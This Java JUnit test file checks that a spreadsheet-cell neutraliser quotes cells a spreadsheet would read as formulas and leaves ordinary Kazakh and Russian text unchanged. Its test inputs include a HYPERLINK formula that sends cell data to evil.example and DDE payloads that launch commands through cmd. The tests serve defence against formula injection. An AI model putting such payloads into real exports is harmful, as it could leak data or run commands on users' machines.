package kz.qujat.reports;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class SpreadsheetCellsTests {

	@ParameterizedTest
	@ValueSource(strings = { "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")", "+7 701 000 00 01", "-2+3+cmd|' /C calc'!A0",
			"@SUM(1+9)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "=", "-" })
	void quotesACellThatASpreadsheetWouldTakeForAFormula(String cell) {
		assertThat(SpreadsheetCells.neutralised(cell)).isEqualTo("'" + cell);
	}

	@ParameterizedTest
	@ValueSource(strings = { "Жұмабекова Әсел Қуанышқызы", "ADM-2026-0001", "23.11.2026 09:40", "1) Өтініш / Заявление",
			"a=1", "'=already quoted" })
	void leavesOtherTextAsItIs(String cell) {
		assertThat(SpreadsheetCells.neutralised(cell)).isEqualTo(cell);
	}

	@Test
	void leavesEmptyCellsEmpty() {
		assertThat(SpreadsheetCells.neutralised("")).isEmpty();
		assertThat(SpreadsheetCells.neutralised(null)).isNull();
	}
}
